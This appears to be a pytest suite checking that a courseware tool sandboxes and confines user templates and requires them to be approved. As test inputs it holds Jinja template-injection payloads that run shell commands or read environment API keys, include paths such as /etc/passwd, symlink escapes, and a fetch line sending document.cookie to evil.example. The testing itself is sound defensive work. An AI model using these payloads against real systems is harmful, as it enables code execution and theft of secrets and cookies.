"""A spec's own templates are untrusted data, like prompts: sandboxed, confined to their folder,
approved in templates.lock, and a bad one is one line FILE:LINE: message with nothing written."""

from __future__ import annotations

import io
import os
import zipfile
from pathlib import Path

import pytest

from conftest import REPO

SPEC = Path("course_specs/blended-teaching.yaml")
LOOK = Path("course_specs/look")
BASE = (REPO / "courseware/templates/html/base.html").read_text("utf-8")
FOOTER = BASE.splitlines().index('<footer class="site">') + 2  # the line of the footer's text
MARKER = "sk-test-MARKER-4b1d"
SANDBOX = "templates run in a sandbox that allows no such access (the README.md that 'courseware templates copy DIR' writes says what they may use)"


def use_templates(value: str = "look") -> int:
    """Add `templates: VALUE` to the sample spec; returns its line."""
    text = SPEC.read_text("utf-8")
    SPEC.write_text(text + f"templates: {value}\n", "utf-8")
    return text.count("\n") + 1


def override(name: str, text: str, folder: Path = LOOK) -> Path:
    path = folder / "html" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")
    return path


def base_with_footer(footer: str) -> str:
    """The built-in base.html, as a user would copy it, with its footer text replaced."""
    lines = BASE.splitlines(keepends=True)
    lines[FOOTER - 1] = f"  <p>{footer}</p>\n"
    return "".join(lines)


def build(cli, *extra: str):
    return cli("build", SPEC, "--formats", "markdown,html", *extra)


def approve(cli, *args: str) -> None:
    result = cli("templates", "approve", *(args or (SPEC,)))
    assert result.exit_code == 0, result.stderr


def files_under(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file()] if folder.exists() else []


@pytest.mark.parametrize(("payload", "refused"), [
    ("{{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}", "access to attribute '__init__' of 'type' object is unsafe"),
    ("{{ lipsum.__globals__['os'].popen('touch pwned').read() }}", "access to attribute '__globals__' of 'function' object is unsafe"),
    ("{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch pwned') }}", "access to attribute '__init__' of 'TemplateReference' object is unsafe"),
    ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "access to attribute '__class__' of 'str' object is unsafe"),
    ("{{ course.authors.append('pwned') }}", "access to attribute 'append' of 'list' object is unsafe"),
])
def test_a_template_cannot_run_code(cli, project, payload, refused):
    use_templates()
    override("base.html", base_with_footer(payload))
    approve(cli)  # even an approved template runs in the sandbox
    result = build(cli)
    assert (result.exit_code, result.stderr) == (1, f"course_specs/look/html/base.html:{FOOTER}: {refused}; {SANDBOX}\n")
    assert not Path("pwned").exists()
    assert not Path("output/blended-teaching/dist").exists()  # nothing half-written


@pytest.mark.parametrize("payload", [
    "{{ cycler.__init__.__globals__.os.environ.OPENAI_API_KEY }}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ lipsum.__globals__.os.getenv('OPENAI_API_KEY') }}",
    "{{ self._TemplateReference__context.environment.globals }}",
    "{{ spec.__class__.__init__.__globals__ }}",
])
def test_a_template_cannot_read_the_environment(cli, project, monkeypatch, payload):
    monkeypatch.setenv("OPENAI_API_KEY", MARKER)
    use_templates()
    override("base.html", base_with_footer(payload))
    approve(cli)
    result = build(cli)
    assert result.exit_code == 1
    assert result.stderr.startswith(f"course_specs/look/html/base.html:{FOOTER}: access to attribute ") and result.stderr.count("\n") == 1
    assert MARKER not in result.stdout + result.stderr
    for path in files_under(Path("output")):
        assert MARKER.encode() not in path.read_bytes(), path


@pytest.mark.parametrize(("include", "refused"), [
    ("/etc/passwd", "template '/etc/passwd' refused"),
    ("../../../secret.txt", "template '../../../secret.txt' refused"),
    ("../lesson.html", "template '../lesson.html' refused"),
])
def test_an_include_cannot_leave_the_folder(cli, project, include, refused):
    Path("secret.txt").write_text(MARKER)
    use_templates()
    override("base.html", base_with_footer(f"{{% include '{include}' %}}"))
    approve(cli)
    result = build(cli)
    hint = "name a file relative to the template folder, without '..', ':' or a leading '/'"
    assert (result.exit_code, result.stderr) == (1, f"course_specs/look/html/base.html:{FOOTER}: {refused}: {hint}\n")
    assert not Path("output/blended-teaching/dist").exists()


@pytest.mark.parametrize("name", ["base.html", "footer.html", "style.css"])
def test_a_link_leading_outside_the_folder_is_refused(cli, project, name):
    Path("secret.txt").write_text(MARKER)
    use_templates()
    override("base.html", base_with_footer("{% include 'footer.html' %}"))
    link = LOOK / "html" / name
    link.unlink(missing_ok=True)
    os.symlink(Path("secret.txt").resolve(), link)
    expected = f"course_specs/look/html/{name}: a link leading outside course_specs/look; put the file itself in the folder\n"
    approval = cli("templates", "approve", SPEC)
    assert (approval.exit_code, approval.stderr) == (1, expected)
    assert not (LOOK / "templates.lock").exists()
    result = build(cli)
    assert (result.exit_code, result.stderr) == (1, expected)
    assert not Path("output").exists()


def test_a_link_inside_the_folder_is_followed(cli, project):
    use_templates()
    override("parts/footer.html", "Made by the Faculty of Education")
    override("base.html", base_with_footer("{% include 'footer.html' %}"))
    os.symlink("parts/footer.html", LOOK / "html" / "footer.html")
    approve(cli)
    assert build(cli).exit_code == 0
    assert "<p>Made by the Faculty of Education</p>" in Path("output/blended-teaching/dist/html/index.html").read_text("utf-8")


def test_a_missing_include_names_the_line(cli, project):
    use_templates()
    override("lesson.html", (REPO / "courseware/templates/html/lesson.html").read_text("utf-8").replace("lesson_body.html", "lesson_bdoy.html"))
    approve(cli)
    result = build(cli)
    assert (result.exit_code, result.stderr) == (1, f"course_specs/look/html/lesson.html:3: no template 'lesson_bdoy.html' in course_specs/look/html or {REPO / 'courseware/templates/html'}\n")
    assert not Path("output/blended-teaching/dist").exists()


def test_templates_outside_the_spec_folder_are_a_spec_error(cli, project):
    override("credential.html", "{% extends 'base.html' %}{% block main %}Outside{% endblock %}\n", Path("look"))
    line = use_templates("../look")
    result = cli("validate", SPEC)
    outside = "lies outside the spec's folder; move it under course_specs/ (or pass --templates DIR to build and render)"
    assert (result.exit_code, result.stderr) == (1, f"{SPEC}:{line}:12: templates: folder '../look' {outside}\n")
    assert build(cli).stderr == result.stderr and not Path("output").exists()

    SPEC.write_text(SPEC.read_text("utf-8").replace("templates: ../look", f"templates: {Path('look').resolve()}"), "utf-8")
    result = cli("validate", SPEC)
    assert (result.exit_code, result.stderr) == (1, f"{SPEC}:{line}:12: templates: folder '{Path('look').resolve()}' is an absolute path; give a path relative to the spec's folder (or pass --templates DIR to build and render)\n")

    os.symlink(Path("look").resolve(), LOOK)  # inside by name, outside once the link is followed
    SPEC.write_text(SPEC.read_text("utf-8").replace(f"templates: {Path('look').resolve()}", "templates: look"), "utf-8")
    result = cli("validate", SPEC)
    assert (result.exit_code, result.stderr) == (1, f"{SPEC}:{line}:12: templates: folder 'look' {outside}\n")


def test_the_templates_flag_takes_a_folder_anywhere(cli, project):
    override("credential.html", "{% extends 'base.html' %}{% block main %}<p>Signed by the Dean of Studies</p>{% endblock %}\n", Path("look"))
    result = build(cli, "--templates", "look")
    assert (result.exit_code, result.stderr) == (1, "look/html/credential.html:1:1: not approved (new); review it, then run 'courseware templates approve'\n")
    approve(cli, "--templates", "look")
    assert build(cli, "--templates", "look").exit_code == 0
    assert "<p>Signed by the Dean of Studies</p>" in Path("output/blended-teaching/dist/html/credential.html").read_text("utf-8")
    assert cli("render", SPEC, "--formats", "html").exit_code == 0  # without the flag: the built-in look again
    assert "Dean of Studies" not in Path("output/blended-teaching/dist/html/credential.html").read_text("utf-8")
    missing = cli("render", SPEC, "--templates", "nowhere")
    assert (missing.exit_code, missing.stderr) == (1, "--templates nowhere: no such folder; make one with 'courseware templates copy nowhere' (the built-in templates, to edit)\n")


def test_a_syntax_error_names_the_line(cli, project):
    use_templates()
    override("lesson.html", "{% extends 'base.html' %}\n{% block main %}\n{% if %}\n{% endblock %}\n")
    expected = "course_specs/look/html/lesson.html:3: template syntax error: Expected an expression, got 'end of statement block'\n"
    for command in ("approve", "check"):
        result = cli("templates", command, SPEC)
        assert (result.exit_code, result.stderr) == (1, expected)
    assert not (LOOK / "templates.lock").exists()


def test_an_undefined_variable_names_the_line(cli, project):
    use_templates()
    lesson = (REPO / "courseware/templates/html/lesson.html").read_text("utf-8").replace("</nav>\n", "</nav>\n<p>{{ lesson_author }}</p>\n")
    override("lesson.html", lesson)
    approve(cli)
    result = build(cli)
    expected = "course_specs/look/html/lesson.html:8: 'lesson_author' is undefined; the README.md that 'courseware templates copy DIR' writes lists the variables each template gets\n"
    assert (result.exit_code, result.stderr) == (1, expected)
    assert not Path("output/blended-teaching/dist").exists()  # index.html rendered fine, and was not written either


def test_an_unapproved_template_stops_the_build_before_writing(cli, project):
    use_templates()
    override("style.css", (REPO / "courseware/templates/html/style.css").read_text("utf-8") + "body { background: #fffbe6; }\n")
    result = build(cli)
    assert (result.exit_code, result.stderr) == (1, "course_specs/look/html/style.css:1:1: not approved (new); review it, then run 'courseware templates approve'\n")
    assert not Path("output").exists()
    check = cli("templates", "check", SPEC)
    assert (check.exit_code, check.stderr) == (1, "course_specs/look/html/style.css: not approved (new); review it, then run 'courseware templates approve'\n")

    approval = cli("templates", "approve", SPEC)
    assert (approval.exit_code, approval.stdout) == (0, "approved: course_specs/look/html/style.css\ncourse_specs/look/templates.lock: 1 change(s) approved\n")
    assert cli("templates", "check", SPEC).stdout == "course_specs/look: every template file is approved\n"

    (LOOK / "html/quiz.js").write_text("fetch('https://evil.example/?' + document.cookie);\n")
    result = cli("build", SPEC, "--frozen", "--formats", "html")
    assert (result.exit_code, result.stderr) == (1, "course_specs/look/html/quiz.js:1:1: not approved (new); review it, then run 'courseware templates approve'\n")
    (LOOK / "html/quiz.js").unlink()
    (LOOK / "html/style.css").write_text("body { color: red; }\n")
    result = cli("render", SPEC)
    assert (result.exit_code, result.stderr) == (1, "course_specs/look/html/style.css:1:1: changed since it was approved; review the change, then run 'courseware templates approve'\n")
    assert not Path("output").exists()


def test_an_approved_override_is_what_learners_see(cli, project):
    use_templates()
    override("base.html", base_with_footer("{{ course.title }} · Made by the Faculty of Education"))
    override("style.css", "body { font-family: serif; }\n")
    approve(cli)
    result = cli("build", SPEC, "--formats", "markdown,html,scorm12")
    assert result.exit_code == 0, result.stderr
    site = Path("output/blended-teaching/dist/html")
    for page in ("index.html", "m1-l1.html", "sources.html", "credential.html"):
        assert "<p>Foundations of Blended Teaching · Made by the Faculty of Education</p>" in (site / page).read_text("utf-8"), page
    assert (site / "assets/style.css").read_text() == "body { font-family: serif; }\n"
    with zipfile.ZipFile(io.BytesIO(Path("output/blended-teaching/dist/scorm12.zip").read_bytes())) as package:
        assert "Made by the Faculty of Education" in package.read("m1-l1.html").decode("utf-8")
        assert package.read("assets/style.css") == b"body { font-family: serif; }\n"


def test_built_in_templates_need_no_lock(cli, project):
    result = cli("templates", "check", SPEC)
    assert (result.exit_code, result.stdout) == (0, f"{SPEC}: uses the built-in templates only; they need no lock\n")
    result = cli("templates", "approve", SPEC)
    assert (result.exit_code, result.stderr) == (1, f"{SPEC}: no template folder to approve; name one with the spec key `templates` or --templates DIR\n")


# Unit tests ------------------------------------------------------------------------------------


def test_the_loader_refuses_a_link_that_appears_after_the_check(tmp_path):
    from courseware.render.templates import BUILT_IN, ConfinedLoader
    from courseware.sandbox import environment

    (tmp_path / "secret.txt").write_text(MARKER)
    look = tmp_path / "look"
    override("page.html", "x\n{% include 'footer.html' %}\n", look)
    os.symlink(tmp_path / "secret.txt", look / "html" / "footer.html")
    loader = ConfinedLoader([look, BUILT_IN], "html")
    from courseware.errors import TemplateError
    from courseware.sandbox import raise_located

    with pytest.raises(TemplateError) as caught:
        try:
            environment(loader, autoescape=True).get_template("page.html").render()
        except Exception as exc:
            raise_located(exc, loader.served, "html/page.html")
    assert str(caught.value) == f"{look}/html/page.html:2: {look}/html/footer.html: a link leading outside {look}; put the file itself in the folder"


def test_prompt_templates_share_the_immutable_sandbox(tmp_path):
    import shutil

    from courseware.errors import TemplateError
    from courseware.generate.prompts import PromptSet

    shutil.copytree(REPO / "courseware/prompts", tmp_path / "p")
    (tmp_path / "p/quiz.j2").write_text("Write {{ quiz.questions }} questions.\n{{ lesson.key_points.append('x') }}\n")
    prompts = PromptSet(tmp_path / "p")
    with pytest.raises(TemplateError) as caught:
        prompts.render("quiz", {"lesson": {"key_points": []}, "quiz": {"questions": 3}, "passages": [], "schema": ""})
    assert str(caught.value) == f"{tmp_path}/p/quiz.j2:2: access to attribute 'append' of 'list' object is unsafe; {SANDBOX}"
